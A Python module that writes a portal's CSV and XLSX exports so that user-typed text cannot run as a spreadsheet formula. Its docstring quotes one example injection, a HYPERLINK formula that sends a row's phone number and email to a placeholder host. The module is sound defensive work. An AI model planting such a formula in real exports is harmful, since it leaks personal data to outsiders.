"""The one writer for every CSV and XLSX file the portal produces.

Spreadsheet programs run a cell that starts with "=", "+", "-" or "@" as a formula (and
strip a leading tab or carriage return before looking), so text typed by anyone (a
name on the join form, a donor's name, a project title) could become a formula in the
export a member of staff opens: `=HYPERLINK("https://x.example/?"&F2&G2,"Xem")` sends the
row's phone number and email away on one click. Text is therefore always written as
text: in CSV with a leading apostrophe when it starts with one of those characters (the
convention spreadsheet programs understand), in XLSX as a string cell whatever it
starts with. Numbers and dates stay numbers and dates.
"""

import csv
import datetime
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Thousands separator and two decimals: the program shows the locale's own separators.
MONEY_FORMAT = "#,##0.00"


def csv_text(value):
    """A value for a CSV cell: text that a spreadsheet would run is escaped with a "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    if value is None or isinstance(value, int | float | Decimal | datetime.date):
        return value
    text = str(value)  # a model instance or a lazy translation: escape its text too
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class CsvWriter:
    """csv.writer whose every row goes through csv_text."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([csv_text(value) for value in row])


class XlsxSheet:
    """A write-only openpyxl sheet whose text cells are always strings, never formulas.

    `money` names the columns (0-based) whose numbers are amounts of money and get
    MONEY_FORMAT.
    """

    def __init__(self, workbook, title, money=()):
        self.sheet = workbook.create_sheet(title[:31])
        self.money = frozenset(money)

    def _cell(self, index, value):
        from openpyxl.cell import WriteOnlyCell

        if value is not None and not isinstance(value, int | float | Decimal | datetime.date):
            value = str(value)
        cell = WriteOnlyCell(self.sheet, value=value)
        if isinstance(value, str):
            # openpyxl makes any text starting with "=" a formula; a string cell is shown
            # as it is by every spreadsheet program, whatever its first character.
            cell.data_type = "s"
        elif index in self.money and isinstance(value, int | float | Decimal):
            cell.number_format = MONEY_FORMAT
        return cell

    def append(self, row):
        self.sheet.append([self._cell(index, value) for index, value in enumerate(row)])
